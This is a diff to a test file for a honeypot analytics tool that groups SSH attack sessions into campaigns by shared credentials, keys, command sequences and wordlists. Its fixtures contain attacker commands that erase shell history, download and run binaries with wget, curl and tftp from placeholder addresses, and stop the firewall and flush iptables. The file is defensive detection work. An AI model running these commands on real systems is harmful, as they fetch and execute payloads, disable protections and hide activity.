@@ -8,7 +8,7 @@
  */
 import { describe, expect, test } from "bun:test"
 import { distinctiveFileName, droppedFilesIn } from "../../src/analytics/droppedFiles.ts"
-import { isPopularCredential, RARE_CREDENTIAL_MAX_IPS_CAP, rareCredentialMaxIps } from "../../src/analytics/credentials.ts"
+import { isPopularCredential } from "../../src/analytics/credentials.ts"
 import { markersIn } from "../../src/analytics/markers.ts"
 import { BANDS, lshCandidatePairs, minHashSeeds, minHashSignatures, PERMUTATIONS } from "../../src/analytics/minHash.ts"
 import { normalizeCommand, RandomTokenCounts } from "../../src/analytics/normalizeCommand.ts"
@@ -296,16 +296,6 @@ describe("credentials", () => {
     }
   })
 
-  test("rareCredentialMaxIps: 1% of login IPs rounded up, at least 3, at most 50", () => {
-    expect(rareCredentialMaxIps(0)).toBe(3)
-    expect(rareCredentialMaxIps(10)).toBe(3)
-    expect(rareCredentialMaxIps(300)).toBe(3)
-    expect(rareCredentialMaxIps(301)).toBe(4)
-    expect(rareCredentialMaxIps(1234)).toBe(13)
-    expect(rareCredentialMaxIps(5000)).toBe(50)
-    expect(rareCredentialMaxIps(5001)).toBe(RARE_CREDENTIAL_MAX_IPS_CAP)
-    expect(rareCredentialMaxIps(1_000_000)).toBe(50)
-  })
 })
 
 // ---------------------------------------------------------------------------------------
@@ -479,23 +469,29 @@ describe("linkage", () => {
     }
   })
 
-  test("popular credentials never link, even when only two addresses use them; a rare pair shared by two IPs does", () => {
+  test("popular credentials never link; a pair in no dictionary links from three sources on, not from two", () => {
     const bg = background(60, 104)
     const sessions = [
       ...bg,
-      // root/admin and oracle/oracle: popular, each from exactly two addresses (rare by count).
+      // root/admin and oracle/oracle: popular, each from exactly two addresses.
       session({ id: "pop-1", ip: ip(0, 201), at: T0 + HOUR, credentials: [login("root", "admin"), login("oracle", "oracle")] }),
       session({ id: "pop-2", ip: ip(2, 202), at: T0 + 2 * HOUR, credentials: [login("root", "admin"), login("oracle", "oracle")] }),
-      // An operator's own pair, from two addresses.
+      // An unusual pair shared by two sources: evidence, not a campaign.
+      session({ id: "two-1", ip: ip(1, 210), at: T0 + 3 * HOUR, credentials: [login("deploy", "Qm7#vLp2!z")] }),
+      session({ id: "two-2", ip: ip(2, 211), at: T0 + 9 * HOUR, credentials: [login("deploy", "Qm7#vLp2!z")] }),
+      // A botnet's check login: the same pair in no dictionary from three sources.
       session({ id: "rare-1", ip: ip(1, 203), at: T0 + 30 * HOUR, credentials: [login("root", "123456"), login("deploy", "Hx9!rTq2#m")] }),
-      session({ id: "rare-2", ip: ip(2, 204), at: T0 + 80 * HOUR, credentials: [login("deploy", "Hx9!rTq2#m", true)] })
+      session({ id: "rare-2", ip: ip(2, 204), at: T0 + 80 * HOUR, credentials: [login("deploy", "Hx9!rTq2#m", true)] }),
+      session({ id: "rare-3", ip: ip(3, 205), at: T0 + 90 * HOUR, credentials: [login("deploy", "Hx9!rTq2#m")] })
     ]
     const a = analyze(sessions)
     expect(familyOf(a, "pop-1")).toBeUndefined()
     expect(familyOf(a, "pop-2")).toBeUndefined()
+    expect(familyOf(a, "two-1")).toBeUndefined()
     const fam = familyOf(a, "rare-1")
-    expect(fam?.sessions).toEqual(["rare-1", "rare-2"])
+    expect(fam?.sessions).toEqual(["rare-1", "rare-2", "rare-3"])
     expect(fam!.indicators).toContainEqual({ type: "credential", value: "deploy/Hx9!rTq2#m" })
+    expect(fam!.formed_by).toEqual([{ kind: "credential_marker", links: 2 }])
     expect(a.campaigns.filter((c) => c.level === "family")).toHaveLength(1)
   })
 
@@ -509,7 +505,7 @@ describe("linkage", () => {
     expect(familyOf(a, "same-1")).toBeUndefined()
   })
 
-  test("a rare client fingerprint groups only otherwise-unlinked sessions", () => {
+  test("a client fingerprint never links: a shared SSH library is not a shared actor", () => {
     const prng = new Prng(4, "client")
     const key = sshKey(prng)
     const rare = { hassh: "f0e1d2c3b4a5968778695a4b3c2d1e0f", clientVersion: "SSH-2.0-RareKit_0.3" }
@@ -522,10 +518,9 @@ describe("linkage", () => {
       session({ id: "cli-3", ip: ip(2, 63), at: T0 + 20 * HOUR, keys: [key], ...rare }),
       session({ id: "key-1", ip: ip(0, 64), at: T0 + 21 * HOUR, keys: [key] })
     ])
-    expect(familyOf(a, "cli-1")?.sessions).toEqual(["cli-1", "cli-2"])
-    expect(familyOf(a, "cli-1")!.name.startsWith("client SSH-2.0-RareKit_0.3")).toBe(true)
+    expect(familyOf(a, "cli-1")).toBeUndefined()
     expect(familyOf(a, "cli-3")?.sessions).toEqual(["cli-3", "key-1"])
-    // The common clients of the background (dozens of addresses each) link nothing.
+    expect(familyOf(a, "cli-3")!.formed_by).toEqual([{ kind: "ssh_key", links: 1 }])
     expect(bg.filter((s) => clustered(a).has(s.id))).toEqual([])
   })
 })
@@ -650,8 +645,8 @@ const richWorld = (): Array<AttackSession> => {
       ]
     }))
   }
-  for (let k = 0; k < 2; k++) {
-    out.push(session({ id: `cred-${k}`, ip: ip(((k + 2) % 3) as 0 | 1 | 2, 230 + k), at: T0 + (2 + 6 * k) * DAY, credentials: [login("support", "Qz7!mVw3#kL")] }))
+  for (let k = 0; k < 3; k++) {
+    out.push(session({ id: `cred-${k}`, ip: ip(((k + 2) % 3) as 0 | 1 | 2, 230 + k), at: T0 + (2 + 3 * k) * DAY, credentials: [login("support", "Qz7!mVw3#kL")] }))
   }
   return out
 }
@@ -700,7 +695,7 @@ describe("the campaign hierarchy on a richer world", () => {
     expect(fam("drop-a0")).toEqual(sorted(drops))
     expect(fam("ssh-0")).toEqual(["ssh-0", "ssh-1", "ssh-2", "ssh-3", "ssh-4"])
     expect(fam("beh-0")).toEqual(["beh-0", "beh-1", "beh-2", "beh-3"])
-    expect(fam("cred-0")).toEqual(["cred-0", "cred-1"])
+    expect(fam("cred-0")).toEqual(["cred-0", "cred-1", "cred-2"])
     expect(families(analysis)).toHaveLength(4)
 
     const dropFamily = familyOf(analysis, "drop-a0")!
@@ -846,5 +841,89 @@ describe("assessSessions", () => {
     const result = assessSessions(set, { config: DEFAULT_CONFIG, reference })
     expect(result.null_population).toEqual({ kind: "reference", sessions: 290 })
     expect(() => assessSessions([], { config: DEFAULT_CONFIG, reference })).toThrow(RangeError)
+  })
+})
+
+// ---------------------------------------------------------------------------------------
+// linkage ranked by strength (issue: detection on what analysts see)
+
+describe("linkage ranked by strength", () => {
+  const HIDE = "unset HISTORY HISTFILE HISTSAVE ; history -n ; export HISTFILE=/dev/null ; export HISTSIZE=0"
+  const kitRun = (id: string, host: number, at: number): AttackSession =>
+    session({ id, ip: ip((host % 3) as 0 | 1 | 2, host), at, credentials: [login("root", "123456", true)], commands: [HIDE, "uname", "ps -x", "free -m"] })
+
+  test("a kit that dominates the log still forms one family: its commands repeat in one list", () => {
+    const bg = background(20, 301)
+    // 60 bots run the kit; only 20 background sessions run anything else.
+    const kit = Array.from({ length: 60 }, (_, k) => kitRun(`kit-${k}`, 1 + k, T0 + k * HOUR))
+    const a = analyze([...bg, ...kit])
+    expect(familyOf(a, "kit-0")?.sessions).toEqual(sorted(kit.map((s) => s.id)))
+    expect(familyOf(a, "kit-0")!.formed_by[0]!.kind).toBe("command_sequence")
+    expect(bg.filter((s) => clustered(a).has(s.id))).toEqual([])
+  })
+
+  test("sessions without commands join their source's campaign within the window, and only then", () => {
+    const kit = Array.from({ length: 4 }, (_, k) => kitRun(`kit-${k}`, 10 + k, T0 + k * DAY))
+    const near = session({ id: "login-near", ip: ip(10 % 3 as 0 | 1 | 2, 10), at: T0 + 5 * 60_000, credentials: [login("root", "123456")] })
+    const far = session({ id: "login-far", ip: ip(11 % 3 as 0 | 1 | 2, 11), at: T0 + DAY + 3 * HOUR, credentials: [login("root", "123456")] })
+    const a = analyze([...background(30, 302), ...kit, near, far])
+    const fam = familyOf(a, "kit-0")!
+    expect(fam.sessions).toContain("login-near")
+    expect(fam.sessions).not.toContain("login-far")
+    expect(fam.formed_by.map((f) => f.kind)).toContain("same_source")
+  })
+
+  test("sources walking one wordlist form one brute-force campaign; one shared dictionary pair does not", () => {
+    // A long list (its entries are wordlist entries, not check logins), tried in one order.
+    const list = Array.from({ length: 20 }, (_, k) => login("svc", `w${k}q${(k * 7919) % 1000}z`))
+    const walkers = [0, 1, 2].map((k) =>
+      session({ id: `walk-${k}`, ip: ip(k as 0 | 1 | 2, 40 + k), at: T0 + k * 7 * HOUR, credentials: list })
+    )
+    const shared = [0, 1].map((k) => session({ id: `dict-${k}`, ip: ip(k as 0 | 1 | 2, 60 + k), at: T0 + k * HOUR, credentials: [login("root", "dragon"), login("admin", `other${k}x`)] }))
+    const a = analyze([...background(30, 303), ...walkers, ...shared])
+    expect(familyOf(a, "walk-0")?.sessions).toEqual(["walk-0", "walk-1", "walk-2"])
+    expect(familyOf(a, "walk-0")!.formed_by[0]!.kind).toBe("wordlist")
+    expect(familyOf(a, "dict-0")).toBeUndefined()
+  })
+
+  test("a file name dropped by several unrelated behaviours no longer links them", () => {
+    const behaviours = [
+      ["cd /var/tmp; wget http://192.0.2.10/x86_64; chmod +x x86_64", "echo kit-one-marker-string done here"],
+      ["tftp -g -r x86_64 192.0.2.20; chmod 777 x86_64; ./x86_64 telnet", "cat /proc/mounts; busybox ps"],
+      ["curl -O http://192.0.2.30/x86_64 && sh x86_64 && rm -rf x86_64", "systemctl stop firewalld; iptables -F"]
+    ]
+    const sessions = behaviours.flatMap((commands, b) =>
+      [0, 1, 2].map((k) => session({ id: `b${b}-${k}`, ip: ip(b as 0 | 1 | 2, 100 + 10 * b + k), at: T0 + (b * 3 + k) * HOUR, commands }))
+    )
+    const a = analyze([...background(30, 304), ...sessions])
+    for (let b = 0; b < 3; b++) expect(familyOf(a, `b${b}-0`)?.sessions).toEqual([`b${b}-0`, `b${b}-1`, `b${b}-2`])
+  })
+
+  test("a weak group never bridges two cores: it joins the one it is tied to most", () => {
+    const prng = new Prng(9, "bridge")
+    const [k1, k2] = [sshKey(prng), sshKey(prng)]
+    const core1 = [0, 1].map((k) => session({ id: `c1-${k}`, ip: ip(0, 70 + k), at: T0 + k * DAY, keys: [k1] }))
+    const core2 = [0, 1].map((k) => session({ id: `c2-${k}`, ip: ip(1, 80 + k), at: T0 + k * DAY, keys: [k2] }))
+    // A marker credential carried by sources of both cores: two ties to core 1, one to core 2.
+    const marker = login("check", "Zr8!kq2Pw")
+    const weak = [
+      session({ id: "w-0", ip: ip(0, 70), at: T0 + 10 * 60_000, credentials: [marker] }),
+      session({ id: "w-1", ip: ip(0, 71), at: T0 + DAY + 10 * 60_000, credentials: [marker] }),
+      session({ id: "w-2", ip: ip(1, 80), at: T0 + 10 * 60_000, credentials: [marker] })
+    ]
+    const a = analyze([...background(30, 305), ...core1, ...core2, ...weak])
+    expect(familyOf(a, "c1-0")?.sessions).toEqual(["c1-0", "c1-1", "w-0", "w-1", "w-2"])
+    expect(familyOf(a, "c2-0")?.sessions).toEqual(["c2-0", "c2-1"])
+  })
+
+  test("a group from one source address is single-source activity with confidence 0", () => {
+    const prng = new Prng(10, "single")
+    const key = sshKey(prng)
+    const one = [0, 1, 2].map((k) => session({ id: `one-${k}`, ip: ip(2, 99), at: T0 + k * DAY, keys: [key] }))
+    const a = analyze([...background(30, 306), ...one])
+    const fam = familyOf(a, "one-0")!
+    expect(fam.assessment).toBe("single_source")
+    expect(fam.confidence).toBe(0)
+    expect(fam.confidence_interval).toEqual([0, 0])
   })
 })
